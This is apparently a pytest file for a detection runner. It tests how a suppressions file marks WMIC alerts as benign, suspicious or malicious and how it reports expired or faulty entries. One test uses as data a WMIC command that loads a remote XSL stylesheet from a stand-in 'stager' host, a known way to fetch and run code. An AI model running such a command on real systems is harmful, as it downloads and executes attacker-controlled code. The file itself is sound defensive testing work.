r"""Hits that a suppression covers, through the whole runner: what is asked, kept and counted."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from msgspec.structs import replace

from connectors.model import AssessmentKind
from runner.checks import check
from runner.journal import cases
from runner.suppressing import suppress_in_case
from runner.suppression_file import SuppressionShape
from runner.suppression_text import text_of_entries
from runner.suppression_use import uses_of
from runner.views import list_cases, show_case, show_status
from runner.wmic import assess
from tests.test_suppressions import AGENT, ENTRY, LINE
from tests.world import World, running_world

USER = r"CORP\svc-inventory"
STARTED = {"ParentCommandLine": f'"{AGENT}" -nightly', "ParentImage": AGENT}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path, {"suppressions_file": "suppressions.yaml"}) as found:
        found.arm()
        yield found


def accept(world: World, *entries: SuppressionShape) -> None:
    (world.folder / "suppressions.yaml").write_text(text_of_entries(entries))


def judgements(world: World) -> list[tuple[str, str | None]]:
    found = [case.assessment for case in world.cases()]
    return [(one.assessment, one.suppression) for one in found if one is not None]


def test_hit_that_fits_is_kept_and_nobody_is_asked(world: World) -> None:
    accept(world, ENTRY)
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [("benign", "inventory")]
    assert world.questions() == []
    assert world.writes() == {"falcon": 0, "slack": 0, "jira": 0}
    shown = show_case(world.journal, world.config, world.case().id).text
    assert "Suppressed by inventory (owner alex, until 2027-02-23): nightly inventory" in shown
    assert "Its parent is what a command line says" in " ".join(shown.split())
    assert " suppressed " in list_cases(world.journal).text
    (entry,) = world.entries("alert_suppressed")
    assert (entry.refs["case"], entry.payload) == (world.case().id, {"suppression": "inventory"})


def test_hit_is_asked_about_without_the_entry(world: World) -> None:
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [("suspicious", None)]
    assert world.question()


@pytest.mark.parametrize(
    ("user", "started"),
    [
        (r"CORP\ann", STARTED),
        (USER, {"ParentCommandLine": r"C:\Temp\agent.exe"}),
        (USER, {"ParentCommandLine": "agent.exe"}),
    ],
)
def test_other_account_or_parent_is_judged_although_host_and_line_are_the_same(
    world: World, user: str, started: dict[str, str]
) -> None:
    accept(world, ENTRY)
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    world.hit(cmdline=LINE, user=user, **started)
    world.tick()
    assert judgements(world) == [("benign", "inventory"), ("suspicious", None)]
    assert world.question().case_id == world.cases()[1].id


def test_two_hits_of_one_poll_that_differ_in_the_account_hide_neither(world: World) -> None:
    accept(world, ENTRY)
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.hit(cmdline=LINE, user=r"CORP\ann", **STARTED)
    world.tick()
    assert world.case().alert_count == 2
    assert judgements(world) == [("suspicious", None)]
    assert world.question()


def test_remote_stylesheet_is_asked_about_whatever_the_file_says(world: World) -> None:
    line = 'wmic process list brief /format:"https://stager.example.test/a.xsl"'
    accept(world, replace(ENTRY, test=(line,), shape=line))
    world.hit(cmdline=line, user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [("malicious", None)]
    assert world.question()


def test_entry_ends_on_its_day_also_for_a_line_that_recurs(world: World) -> None:
    tomorrow = (world.clock.now() + timedelta(days=1)).date().isoformat()
    accept(world, replace(ENTRY, expires=tomorrow))
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    world.clock.advance(12 * 3600)
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [("benign", "inventory"), ("suspicious", None)]
    status = show_status(world.journal, world.config, None).text
    assert f"suppressions: inventory ended on {tomorrow} and does nothing; remove it" in status
    checked = check(world.service)
    assert checked.code == 1
    assert f"BAD  suppressions: inventory ended on {tomorrow}" in checked.text


def test_faulty_file_suppresses_nothing_and_is_said(world: World) -> None:
    accept(world, replace(ENTRY, parent="agent.exe"))
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [("suspicious", None)]
    shown = show_case(world.journal, world.config, world.case().id).text
    assert "The suppressions file cannot be used" in shown
    for said in (show_status(world.journal, world.config, None), check(world.service)):
        assert "nothing is suppressed: " in said.text
        assert "parent is no full path" in said.text


def test_hits_are_counted_once_an_alert_and_the_last_one_is_known(world: World) -> None:
    accept(world, ENTRY, replace(ENTRY, id="unused", account="nobody"))
    for _ in range(2):
        world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    last = world.clock.now()
    world.hit(cmdline=LINE, user=USER, host="WORKSTATION7", **STARTED)
    world.tick()
    world.restart()
    world.ticks(2, 60)
    with world.journal.read() as tx:
        met = cases.suppressed(tx)
    assert met["inventory"].hits == 3
    assert met["inventory"].last_at is not None
    assert met["inventory"].last_at > last
    assert len(world.entries("alert_suppressed")) == len(world.cases()) == 2
    used, unused = uses_of(world.journal, world.config)
    assert (used.hits, used.said, unused.hits, unused.said) == (3, None, 0, None)
    world.clock.advance(60 * 86400)
    assert [use.said for use in uses_of(world.journal, world.config)] == [
        "no hit for 60 days; remove it",
        "no hit for 60 days; remove it",
    ]


def test_alert_that_is_judged_again_after_a_crash_is_entered_and_counted_once(world: World) -> None:
    accept(world, ENTRY)
    world.hit(cmdline=LINE, user=USER, **STARTED)
    world.tick()
    with world.journal.write() as tx:
        case = cases.every(tx)[0]
        alert = cases.read_alert(tx, case.alert_id)
        again = suppress_in_case(tx, world.config, case, alert, assess(alert))
    assert again.suppression == "inventory"
    assert len(world.entries("alert_suppressed")) == 1
    assert [use.hits for use in uses_of(world.journal, world.config)] == [1]


def test_search_that_is_gone_is_said(world: World) -> None:
    accept(world, replace(ENTRY, search="gone"))
    assert "which is no search" in show_status(world.journal, world.config, None).text
    (use,) = uses_of(world.journal, world.config)
    assert use.said == "there is no search gone, so it does nothing; remove it"


def test_benign_and_malicious_judgements_need_no_file(world: World) -> None:
    world.hit(cmdline="wmic os get Caption /format:csv", user=USER, **STARTED)
    world.tick()
    assert judgements(world) == [(AssessmentKind.BENIGN, None)]
